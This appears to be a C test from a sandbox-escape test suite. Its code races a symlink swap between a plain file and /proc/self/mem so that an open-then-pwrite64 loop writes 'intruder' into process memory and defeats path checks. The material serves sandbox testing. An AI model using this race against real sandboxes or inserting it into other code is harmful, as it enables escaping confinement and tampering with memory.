/* A name that is a file at one moment and a link to /proc/self/mem at the next. */
#include "escape.h"

static volatile int is_over;

static void* swap(void* unused) {
  while (!is_over) {
    rename("link", "name");
    symlink("/proc/self/mem", "link");
    int fd = open("plain", O_RDWR | O_CREAT, 0600);
    if (fd >= 0) close(fd);
    rename("plain", "name");
    unlink("name");
  }
  return unused;
}

static void attack(void) {
  long target = test_data_address();
  symlink("/proc/self/mem", "link");
  pthread_t thread;
  EXPECT(pthread_create(&thread, 0, swap, 0) == 0);
  struct timespec start = begin();
  static const int flags[] = {
      O_RDWR, O_RDWR | O_CREAT, O_WRONLY | O_CREAT, O_RDWR | O_CREAT | O_EXCL};
  for (unsigned i = 0; has_time(start, 1500); i++) {
    long fd = CALL(SYS_open, "name", flags[i % 4] | O_CLOEXEC, 0600);
    if (fd < 0) continue;
    CALL(SYS_pwrite64, fd, "intruder", 8, target);
    close(fd);
  }
  is_over = 1;
  pthread_join(thread, 0);
}
